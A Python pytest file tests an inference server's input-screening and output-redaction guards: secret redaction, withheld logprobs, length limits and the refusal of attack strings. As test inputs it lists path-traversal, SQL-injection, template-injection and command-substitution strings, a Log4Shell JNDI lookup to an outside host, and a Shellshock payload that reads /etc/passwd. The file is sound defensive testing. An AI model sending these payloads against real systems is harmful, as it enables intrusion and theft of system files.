"""The text guards in the request path: a real worker with both guards on, over an engine that repeats what it is told."""

from __future__ import annotations

import itertools
import json
import time
import urllib.parse
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import httpx
import pytest
from hypothesis import given
from hypothesis import strategies as st

from inferno import config
from inferno.errors import ApiError
from inferno.messages import AuditAppend, Prepare, Reload, TokenLogprob
from inferno.security.principal import KeyLimits, Principal
from inferno.security.screening import Screened, Screener
from inferno.server.guarding import MAX_CLEAN_HEADERS, Guards, OutputGuard
from inferno.server.http import Context
from inferno.server.redactors import NativeRedactors
from inferno.server.sse import PADDING_BLOCK

from .harness import WorkerUnderTest, running_worker, settings_for_tests, until

DATA = Path(__file__).parents[2] / "data"
KEY = "AKIAIOSFODNN7EXAMPLQ"  # the form of an AWS access key id, invented
TEXT = f"before {KEY} after, mail ann@corp-mail.org"


@pytest.fixture(scope="module")
def guarded() -> Iterator[WorkerUnderTest]:
    security = {
        "input_validation_enabled": True,
        "output_sanitization_enabled": True,
        "audit_logging_enabled": True,
        "max_input_length": 500,
    }
    with running_worker(settings_for_tests(security=security)) as running:
        yield running


def chat(worker: WorkerUnderTest, text: Any, **fields: Any) -> httpx.Response:
    body = {"messages": [{"role": "user", "content": text}], **fields}
    return httpx.post(f"{worker.base_url}/v1/chat/completions", json=body, timeout=60)


def streamed(answer: httpx.Response) -> list[dict[str, Any]]:
    return [json.loads(line[6:]) for line in answer.text.split("\n\n") if line.startswith("data: {")]


def audited(worker: WorkerUnderTest, event: str) -> list[dict[str, Any]]:
    """Wait for a record of this event."""
    deadline = time.monotonic() + 60
    while True:
        found = [
            record
            for message in worker.received
            if isinstance(message, AuditAppend)
            for record in message.records
            if record["event"] == event
        ]
        if found:
            return found
        assert time.monotonic() < deadline, event
        time.sleep(0.02)


def test_sec_133_secrets_are_replaced_streamed_or_not(guarded: WorkerUnderTest) -> None:
    whole = chat(guarded, TEXT).json()["choices"][0]["message"]["content"]
    assert KEY not in whole
    assert "[REDACTED:aws_access_key_id]" in whole
    assert "ann@corp-mail.org" in whole  # the request's own
    chunks = streamed(chat(guarded, TEXT, stream=True))
    assert "".join(chunk["choices"][0]["delta"].get("content") or "" for chunk in chunks) == whole
    completion = httpx.post(
        f"{guarded.base_url}/v1/completions", json={"prompt": TEXT, "max_tokens": 200}, timeout=60
    ).json()
    assert completion["choices"][0]["text"] == whole
    counts = audited(guarded, "output.redacted")
    assert counts[0]["reason"] == "aws_access_key_id=1"
    assert not any(KEY in json.dumps(record) for record in counts)


def test_sec_137_logprobs_of_covered_text_are_withheld(guarded: WorkerUnderTest) -> None:
    for stream in (False, True):
        answer = chat(guarded, TEXT, logprobs=True, top_logprobs=1, stream=stream)
        if stream:
            entries = [
                entry
                for chunk in streamed(answer)
                for entry in (chunk["choices"][0]["logprobs"] or {}).get("content", [])
            ]
        else:
            entries = answer.json()["choices"][0]["logprobs"]["content"]
        joined = bytes(byte for entry in entries for byte in entry["bytes"]).decode()
        assert joined == TEXT.replace(KEY, "")


def test_out_7_events_are_padded_where_it_was_asked_for(guarded: WorkerUnderTest) -> None:
    plain = streamed(chat(guarded, "a word", stream=True))
    assert not any("obfuscation" in chunk for chunk in plain)
    asked = chat(guarded, "a word and aLongerOneThanThat", stream=True, stream_options={"include_obfuscation": True})
    frames = [line for line in asked.text.split("\n\n") if line.startswith("data: {")]
    padded = [line for line in frames if json.loads(line[6:])["choices"][0]["delta"].get("content")]
    assert padded
    assert all("obfuscation" in json.loads(line[6:]) for line in padded)
    assert {(len(line) + 2) % PADDING_BLOCK for line in padded} == {0}


def test_every_choice_has_its_own_guard(guarded: WorkerUnderTest) -> None:
    choices = chat(guarded, TEXT, n=3).json()["choices"]
    assert len({choice["message"]["content"] for choice in choices}) == 1
    assert all(KEY not in choice["message"]["content"] for choice in choices)


def test_sec_117_lengths(guarded: WorkerUnderTest) -> None:
    assert chat(guarded, "x" * 500).status_code == 200
    assert chat(guarded, "😀" * 500).status_code == 200
    refused = chat(guarded, [{"type": "text", "text": "a"}, {"type": "text", "text": "x" * 501}])
    error = refused.json()["error"]
    assert (refused.status_code, error["code"], error["param"]) == (
        400,
        "input_too_long",
        "messages[0].content[1]",
    )
    prompt = httpx.post(f"{guarded.base_url}/v1/completions", json={"prompt": ["a", "x" * 501]}, timeout=60).json()
    assert prompt["error"]["param"] == "prompt[1]"


def test_sec_118_nul_and_sec_115_lone_surrogates(guarded: WorkerUnderTest) -> None:
    for escape in ("\\u0000", "\\ud800"):
        body = '{"messages":[{"role":"user","content":"a' + escape + 'b"}]}'
        headers = {"content-type": "application/json"}
        answer = httpx.post(f"{guarded.base_url}/v1/chat/completions", content=body, headers=headers, timeout=60)
        assert (answer.status_code, answer.json()["error"]["code"]) == (400, "invalid_text")


def test_inp_4_controls_are_removed_before_the_engine(guarded: WorkerUnderTest) -> None:
    engine = guarded.engines["fake"]
    chat(guarded, "red \x1b[31mtext\x0cnext page")
    prompt = engine.logged(Prepare)[-1].prompt
    assert prompt.messages[0]["content"] == "red [31mtext\nnext page"
    until(lambda: any("control" in record["reason"] for record in audited(guarded, "input.flagged")))


def test_inp_9_attacks_in_content_are_reported_and_answered(guarded: WorkerUnderTest) -> None:
    text = "Why is ' OR 1=1 -- dangerous in a login form?"
    assert chat(guarded, text).json()["choices"][0]["message"]["content"] == text


@pytest.mark.parametrize(
    "name", ["../../etc/passwd", "a'; DROP TABLE users--", "{{7*7}}", "$(id)", "m\u202eodel", "a" * 129]
)
def test_sec_125_attacks_as_model_names_are_refused(guarded: WorkerUnderTest, name: str) -> None:
    answer = chat(guarded, "x", model=name)
    assert (answer.status_code, answer.json()["error"]["param"]) == (400, "model")


def test_identifiers_in_messages_are_refused(guarded: WorkerUnderTest) -> None:
    body = {"messages": [{"role": "user", "content": "x", "name": "ann<script>"}]}
    answer = httpx.post(f"{guarded.base_url}/v1/chat/completions", json=body, timeout=60)
    assert (answer.status_code, answer.json()["error"]["param"]) == (400, "messages[0].name")
    good = {"messages": [{"role": "user", "content": "x", "name": "_Ann-1"}]}
    assert httpx.post(f"{guarded.base_url}/v1/chat/completions", json=good, timeout=60).status_code == 200


def test_attacks_in_the_query_are_refused(guarded: WorkerUnderTest) -> None:
    answer = httpx.get(f"{guarded.base_url}/v1/models?x=../../../../etc/passwd", timeout=60)
    assert (answer.status_code, answer.json()["error"]["code"]) == (400, "input_blocked")
    assert httpx.get(f"{guarded.base_url}/v1/models?limit=20", timeout=60).status_code == 200


@pytest.mark.parametrize(
    ("header", "value"),
    [
        ("user-agent", "${jndi:ldap://198.51.100.7/a}"),
        ("user-agent", "() { :; }; /bin/cat /etc/passwd"),
        ("x-request-id", "1' OR '1'='1' --"),
        ("x-client-request-id", "../../../../etc/shadow"),
        ("openai-project", "<script>alert(1)</script>"),
        ("accept-language", "{{7*7}}{{config.items()}}"),
    ],
)
def test_inp_9_attacks_in_headers_are_refused(guarded: WorkerUnderTest, header: str, value: str) -> None:
    answer = httpx.get(f"{guarded.base_url}/v1/models", headers={header: value}, timeout=60)
    assert answer.status_code == 400
    assert (answer.json()["error"]["code"], answer.json()["error"]["param"]) == ("input_blocked", header)
    assert value not in answer.text
    found = audited(guarded, "input.blocked")
    assert not any(value in json.dumps(record) for record in found)


def test_inp_9_attacks_in_paths_are_refused(guarded: WorkerUnderTest) -> None:
    for raw in ("..%2F..%2Fetc%2Fpasswd", "x%00", "m%E2%80%AEodel", "a%27%20OR%201=1--", "%EF%BC%8E%EF%BC%8E%EF%BC%8Fetc"):
        answer = httpx.get(f"{guarded.base_url}/v1/models/{raw}", timeout=60)
        assert (answer.status_code, answer.json()["error"]["param"]) == (400, "id"), raw
    for raw in ("fake", "org%2Fno-such-model", "llama-3.1:8b", "Mod%C3%A8le%20deux"):
        assert httpx.get(f"{guarded.base_url}/v1/models/{raw}", timeout=60).status_code == (200 if raw == "fake" else 404), raw


def test_inp_9_health_and_credentials_are_not_screened(guarded: WorkerUnderTest) -> None:
    answer = httpx.get(f"{guarded.base_url}/healthz", headers={"user-agent": "../../etc/passwd"}, timeout=60)
    assert answer.status_code == 200


# ---------------------------------------------------------------- without a worker


class Told:
    """Guard events, noted."""

    def __init__(self) -> None:
        self.screens: list[tuple[tuple[str, ...], str]] = []

    def screened(self, context: Context, categories: Sequence[str], action: str) -> None:
        self.screens.append((tuple(categories), action))

    def redacted(self, context: Context, counts: dict[str, int]) -> None:
        raise AssertionError(counts)

    def fault(self, context: Context) -> None:
        raise AssertionError


ORDINARY_AGENTS = (
    "OpenAI/Python 2.9.0", "AsyncOpenAI/Python 1.109.1", "OpenAI/JS 4.104.0", "Anthropic/Python 0.75.0", "curl/8.5.0",
    "python-httpx/0.28.1", "python-requests/2.32.3", "Python/3.11 aiohttp/3.12.15", "Python-urllib/3.11", "Wget/1.21.4",
    "Go-http-client/2.0", "axios/1.7.9", "node", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", "okhttp/4.12.0",
    "Apache-HttpClient/5.4.1 (Java/17.0.13)", "Java-http-client/21.0.5", "PostmanRuntime/7.43.0", "insomnia/10.3.0",
    "kube-probe/1.31", "Prometheus/3.1.0", "ELB-HealthChecker/2.0", "GoogleHC/1.0", "Envoy/HC", "HTTPie/3.2.4", "reqwest/0.12.9",
    "LangChain/0.3 langsmith-py/0.2.11", "litellm/1.81.0", "Continue/1.0 VSCode/1.96.2 (Linux; x64)", "aws-sdk-go/1.55.5 (go1.23.4; linux; amd64)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.2903.112",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.2 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:134.0) Gecko/20100101 Firefox/134.0",
    "Mozilla/5.0 (Linux; Android 14; SM-S918B Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/131.0.6778.200 Mobile Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "Dalvik/2.1.0 (Linux; U; Android 13; Pixel 7 Build/TQ3A.230901.001)", "MyApp/1.0 CFNetwork/1568.200.51 Darwin/24.1.0",
    "Mozilla/5.0 (Windows NT; Windows NT 10.0; de-DE) WindowsPowerShell/5.1.22621.4391", "Zabbix", "ollama-python/0.4.4 (x86_64 linux) Python/3.11.2",
    "git/2.43.0", "UptimeRobot/2.0; http://www.uptimerobot.com/", "github.com/sashabaranov/go-openai", "llama-index/0.12", "Open WebUI (https://openwebui.com)",
)  # fmt: skip
ORDINARY_VALUES = (
    ("x-request-id", "550e8400-e29b-41d4-a716-446655440000"), ("x-request-id", "req_7c3f9d1a2b"), ("x-request-id", "01JGZ8M4Q3T0YV5N6P7R8S9W0X"),
    ("x-request-id", "Root=1-67891233-abcdef012345678912345678"), ("x-correlation-id", "job:4711/step-3"), ("idempotency-key", "stainless-python-retry-1f2d3c4b"),
    ("x-client-request-id", "WkFkb2tjQ1JJT2lKQm9XRm1hQmlhZz09"), ("openai-organization", "org-AbCdEf0123456789"), ("openai-project", "proj_AbCdEf0123456789"),
    ("openai-beta", "assistants=v2"), ("anthropic-version", "2023-06-01"), ("anthropic-beta", "prompt-caching-2024-07-31,tools-2024-05-16"),
    ("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"), ("accept", "text/event-stream"),
    ("accept-language", "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7,*;q=0.5"),
    # held to forms of their own, or read by nobody
    ("traceparent", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01"), ("tracestate", "es=s:1;dd=s:1;o:rum;t.dm:-4"),
    ("x-forwarded-for", "203.0.113.9, 10.0.0.1, 127.0.0.1"), ("forwarded", 'for="[2001:db8::1]:4711";proto=https;by=127.0.0.1'),
    ("x-forwarded-host", "localhost:8080"), ("referer", "http://localhost:3000/chat?x=1"), ("origin", "http://localhost:3000"),
    ("cookie", "session=../../etc; theme=<dark>"), ("sec-ch-ua", '"Chromium";v="131", "Not_A Brand";v="24"'), ("x-stainless-lang", "python"),
    ("x-forwarded-client-cert", "By=spiffe://cluster.local/ns/a/sa/b;Hash=00;URI=spiffe://cluster.local/ns/c/sa/d"), ("via", "1.1 proxy.internal (squid/5.7)"),
)  # fmt: skip


def test_inp_9_headers_of_ordinary_clients_pass() -> None:
    told = Told()
    guards = Guards(screener=Screener(), events=told)
    context = Context("req_x", "127.0.0.1")
    for agent in ORDINARY_AGENTS:
        guards.headers(context, [(b"user-agent", agent.encode())])
    for name, value in ORDINARY_VALUES:
        guards.headers(context, [(name.encode(), value.encode())])
    assert told.screens == []


def test_inp_9_every_attack_is_refused_as_a_header_and_in_a_url() -> None:
    guards = Guards(screener=Screener())
    context = Context("req_x", "127.0.0.1")
    for line in (DATA / "cases" / "scan_attack.jsonl").read_text("utf-8").splitlines():
        text = json.loads(line)["text"]
        raw = text.encode("utf-8", "surrogatepass")
        for screen in (
            lambda raw=raw: guards.headers(context, [(b"user-agent", raw)]),
            lambda raw=raw: guards.query(context, b"x=" + urllib.parse.quote_from_bytes(raw, safe="").encode()),
            lambda text=text: guards.path(context, {"id": text.encode("utf-8", "replace").decode()}),
        ):
            with pytest.raises(ApiError) as refused:
                screen()
            assert refused.value.code in ("input_blocked", "invalid_text"), line


def test_ordinary_queries_pass() -> None:
    guards = Guards(screener=Screener())
    context = Context("req_x", "127.0.0.1")
    for query in (
        b"limit=20", b"after=2026-01-01T00:00:00%2B00:00&result=failure", b"actor=J%C3%BCrgen&event=auth.login",
        b"since=2026-01-01T00:00:00+00:00", b"actor=%E5%B1%B1%E7%94%B0", b"model=org%2Fname-7b", b"cursor=Zm9vYmFyCg%3D%3D", b"q=C%2B%2B+and+more",
    ):  # fmt: skip
        guards.query(context, query)


def test_what_a_header_holds_is_judged_once_and_again_after_a_reload(tmp_path: Path) -> None:
    asked: list[str] = []

    class Counting(Screener):
        def header_value(self, name: str, value: str) -> Screened:
            asked.append(value)
            return super().header_value(name, value)

    guards = Guards(screener=Counting(max_input_length=100))
    context = Context("req_x", "127.0.0.1")
    agent = [(b"user-agent", b"moonshot/1.0"), (b"x-request-id", b"550e8400-e29b-41d4-a716-446655440000")]
    for _ in range(3):
        guards.headers(context, agent)
    assert asked == ["moonshot/1.0"]
    for number in range(MAX_CLEAN_HEADERS + 5):
        guards.headers(context, [(b"user-agent", b"agent/%d" % number)])
    assert len(guards._clean_headers) <= MAX_CLEAN_HEADERS
    rules = tmp_path / "rules.toml"
    rules.write_text('[[rule]]\nid = "own"\ncategory = "own"\npattern = "moonshot"\nscore = 0.9\nidentifier = "block"\n')
    guards.reload(100, [rules])
    for _ in range(2):  # a refusal is not remembered as clean
        with pytest.raises(ApiError):
            guards.headers(context, agent)


def test_headers_pass_where_the_guard_is_off() -> None:
    attack = [(b"user-agent", b"../../etc/passwd")]
    context = Context("req_x", "127.0.0.1")
    Guards().headers(context, attack)
    Guards(screener=Screener(enabled=False)).headers(context, attack)
    told = Told()
    Guards(screener=Screener(scan_identifiers="report"), events=told).headers(context, attack)
    assert told.screens == [(("path-traversal",), "report")]


def principal(**fields: Any) -> Principal:
    return Principal(id="u1", name="ann", actor_type="key", role="user", permissions=frozenset(), **fields)


def test_a_key_may_have_its_own_length() -> None:
    guards = Guards(screener=Screener(max_input_length=10))
    context = Context("req_x", "127.0.0.1")
    longer = principal(key_limits=KeyLimits(max_input_length=20))
    assert guards.content(context, longer, [("prompt", "x" * 20)]) is None
    for caller, size in ((longer, 21), (principal(), 11)):
        with pytest.raises(ApiError, match="max_input_length"):
            guards.content(context, caller, [("prompt", "x" * size)])


def test_out_4_profiles_of_keys() -> None:
    guards = Guards(redactors=NativeRedactors({}), profile="default")
    text = "write to bob@corp-mail.org"
    shown = []
    for profile in (None, "secrets"):
        guard = guards.output(Context("req_x", "127.0.0.1"), principal(redact_profile=profile), [])
        assert guard is not None
        shown.append(guard.pass_on(0, text, None, is_last=True)[0])
    assert shown == ["write to [REDACTED:email]", text]


def test_the_servers_own_secrets_never_leave() -> None:
    secret = "aVerySpecialJwtSecretOfThisServer1234567"
    guards = Guards(
        redactors=NativeRedactors({"jwt": secret.encode(), "pepper": b"\xff" * 32}), profile="secrets"
    )
    guard = guards.output(Context("req_x", "127.0.0.1"), principal(), [secret])
    assert guard is not None
    assert secret not in guard.pass_on(0, f"it is {secret} indeed", None, is_last=True)[0]


class _Broken:
    def __init__(self) -> None:
        self.counts: dict[str, int] = {}
        self.spans: list[tuple[int, int, str]] = []
        self.decided = 0

    def feed(self, text: str) -> str:
        raise ZeroDivisionError

    def finish(self) -> str:
        raise ZeroDivisionError


def test_out_5_a_fault_of_the_guard_ends_the_answer() -> None:
    from inferno.server.guarding import NoEvents

    guard = OutputGuard(_Broken, (ZeroDivisionError,), NoEvents(), Context("req_x", "127.0.0.1"))
    with pytest.raises(ApiError) as caught:
        guard.pass_on(0, "text", None, is_last=False)
    assert caught.value.code == "redaction_failed"


def test_inp_9_own_rules_of_the_data_directory_are_taken_over_at_a_reload(tmp_path: Path) -> None:
    security = {"input_validation_enabled": True, "audit_logging_enabled": True}
    settings = settings_for_tests(security=security, storage={"data_dir": str(tmp_path)})
    rule = '[[rule]]\nid = "own"\ncategory = "own-{0}"\npattern = "project {0}"\n'
    rules = tmp_path / "rules.toml"
    rules.write_text(rule.format("moonshot"))

    def flagged(worker: WorkerUnderTest, name: str) -> int:
        records = [r for m in worker.received if isinstance(m, AuditAppend) for r in m.records]
        return sum(f"own-{name}" in r["reason"] for r in records if r["event"] == "input.flagged")

    def ask_until_flagged(worker: WorkerUnderTest, name: str) -> None:
        before, deadline = flagged(worker, name), time.monotonic() + 60
        while flagged(worker, name) == before:
            assert time.monotonic() < deadline
            assert chat(worker, f"What about project {name}?").status_code == 200

    with running_worker(settings) as worker:
        ask_until_flagged(worker, "moonshot")
        rules.write_text(rule.format("comet"))
        worker.control.send(Reload(settings=config.encode(settings)))
        ask_until_flagged(worker, "comet")
        before = flagged(worker, "moonshot")
        assert chat(worker, "What about project moonshot?").status_code == 200
        ask_until_flagged(worker, "comet")  # records come in order
        ask_until_flagged(worker, "comet")
        assert flagged(worker, "moonshot") == before


def test_out_5_a_fault_ends_the_stream_with_an_error_event_and_is_audited() -> None:
    security = {"output_sanitization_enabled": True, "audit_logging_enabled": True}
    broken = ("-P", str(Path(__file__).with_name("broken_redactor.py")))
    text = f"word after word {KEY} and more words"
    with running_worker(settings_for_tests(security=security), program=broken) as worker:
        for _ in range(50):
            answer = chat(worker, text, stream=True)
            assert "redaction_failed" in answer.text
            if answer.status_code == 200:  # else the engine's pieces came as one, and nothing had been sent
                break
        assert answer.status_code == 200
        events = [line[6:] for line in answer.text.split("\n\n") if line.startswith("data: ")]
        assert json.loads(events[-1])["error"]["code"] == "redaction_failed"
        assert "[DONE]" not in events
        assert "more words" not in answer.text
        assert KEY not in answer.text
        whole = chat(worker, text)
        assert whole.status_code == 500
        assert whole.json()["error"]["code"] == "redaction_failed"
        assert "words" not in whole.text
        assert audited(worker, "guard.fault")[0]["result"] == "failure"


@given(st.lists(st.integers(1, 9), min_size=1, max_size=30))
def test_out_2_any_split_gives_the_same_text_and_logprobs(sizes: list[int]) -> None:
    text = f"é {TEXT} 日本 😀 end"
    guards = Guards(redactors=NativeRedactors({}), profile="default")

    def run(cuts: list[int]) -> tuple[str, bytes]:
        guard = guards.output(Context("req_x", "127.0.0.1"), principal(), [])
        assert guard is not None
        shown, tokens, rest = "", b"", text
        for size in itertools.cycle(cuts):
            part, rest = rest[:size], rest[size:]
            logprobs = [TokenLogprob(bytes([byte]), -0.5) for byte in part.encode()]
            more, entries = guard.pass_on(0, part, logprobs, is_last=not rest)
            shown += more
            tokens += b"".join(entry.token for entry in entries or ())
            if not rest:
                break
        return shown, tokens

    whole = run([len(text)])
    assert run(sizes) == whole
    assert KEY not in whole[0]
    assert KEY.encode() not in whole[1]
